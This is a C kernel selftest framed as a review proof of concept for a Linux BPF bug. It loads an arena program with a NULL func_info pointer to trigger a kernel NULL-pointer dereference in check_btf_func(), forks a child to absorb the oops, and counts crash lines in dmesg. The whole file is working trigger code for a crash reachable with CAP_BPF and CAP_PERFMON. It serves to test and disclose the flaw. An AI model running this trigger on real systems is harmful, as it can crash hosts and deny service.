// SPDX-License-Identifier: GPL-2.0
/*
 * Review PoC: an arena program with func_info_cnt != 0 but func_info == 0.
 * remap_records() leaves the NULL in the kernel attr, kern_sys_bpf() makes
 * the verifier treat it as a KERNEL pointer, and check_btf_func() runs
 * bpf_check_uarg_tail_zero() -> memchr_inv(NULL + 8, 0, 4): a NULL
 * dereference in the kernel, reached by CAP_BPF + CAP_PERFMON.
 * Runs in a child: the child dies with the oops.
 */
#include <errno.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <linux/btf.h>

#include "kselftest_harness.h"
#include "bpf_insn.h"
#include "kmod_util.h"

static char vlog[1 << 16];

static int load_int_btf(void)
{
	struct {
		struct btf_header h;
		struct btf_type t;
		__u32 enc;
		char str[5];
	} __attribute__((packed)) b;
	union bpf_attr attr;

	memset(&b, 0, sizeof(b));
	b.h.magic = BTF_MAGIC;
	b.h.version = BTF_VERSION;
	b.h.hdr_len = sizeof(b.h);
	b.h.type_off = 0;
	b.h.type_len = sizeof(b.t) + sizeof(b.enc);
	b.h.str_off = b.h.type_len;
	b.h.str_len = sizeof(b.str);
	b.t.name_off = 1;
	b.t.info = BTF_KIND_INT << 24;
	b.t.size = 4;
	b.enc = 32;	/* BTF_INT_BITS = 32 */
	memcpy(b.str, "\0int", 5);
	memset(&attr, 0, sizeof(attr));
	attr.btf = ptr_u64(&b);
	attr.btf_size = sizeof(b);
	return bpf_sys(BPF_BTF_LOAD, &attr);
}

static int arena_map(void)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.map_type = 33;
	attr.max_entries = 1;
	attr.map_flags = BPF_F_MMAPABLE;
	return bpf_sys(BPF_MAP_CREATE, &attr);
}

static long load(int afd, int btf, int which, unsigned int rec_size)
{
	struct bpf_insn insns[] = {
		I_LD_MAP_FD(1, afd),
		I_MOV64_IMM(0, 0),
		I_EXIT(),
	};
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.prog_type = BPF_PROG_TYPE_SYSCALL;
	attr.prog_flags = BPF_F_SLEEPABLE;
	attr.insns = ptr_u64(insns);
	attr.insn_cnt = ARRAY_SIZE(insns);
	attr.license = ptr_u64("GPL");
	attr.log_buf = ptr_u64(vlog);
	attr.log_size = sizeof(vlog);
	attr.log_level = 1;
	attr.prog_btf_fd = btf;
	if (which == 0) {		/* func_info */
		attr.func_info_cnt = 1;
		attr.func_info_rec_size = rec_size;
		attr.func_info = 0;
	} else {			/* line_info */
		attr.line_info_cnt = 1;
		attr.line_info_rec_size = rec_size;
		attr.line_info = 0;
	}
	return bpf_sys(BPF_PROG_LOAD, &attr) < 0 ? -errno : 0;
}

TEST(null_func_info_is_a_kernel_pointer)
{
	int status, afd, btf;
	pid_t pid;
	long ret;

	afd = arena_map();
	ASSERT_LE(0, afd);
	ASSERT_NE(MAP_FAILED, mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, afd, 0));
	btf = load_int_btf();
	ASSERT_LE(0, btf) TH_LOG("btf load: %s", strerror(errno));
	/* Harmless variant first: rec_size 8 goes to copy_from_kernel_nofault(NULL). */
	ret = load(afd, btf, 0, 8);
	TH_LOG("rec_size 8: %ld (%s) log: %.200s", ret, strerror(-ret), vlog);
	pid = fork();
	ASSERT_LE(0, pid);
	if (pid == 0) {
		ret = load(afd, btf, 0, 12);
		printf("child: rec_size 12 load returned %ld (%s)\n", ret, strerror(-ret));
		_exit(ret == -EFAULT || ret == -EINVAL ? 0 : 1);
	}
	ASSERT_EQ(pid, waitpid(pid, &status, 0));
	TH_LOG("child: exited %d status %d signal %d", WIFEXITED(status), WEXITSTATUS(status),
	       WIFSIGNALED(status) ? WTERMSIG(status) : 0);
	TH_LOG("Oops lines in dmesg: %d", kernel_log_count("BUG: kernel NULL pointer"));
	EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0);
	EXPECT_EQ(0, kernel_log_count("BUG: kernel NULL pointer"));
}

TEST_HARNESS_MAIN
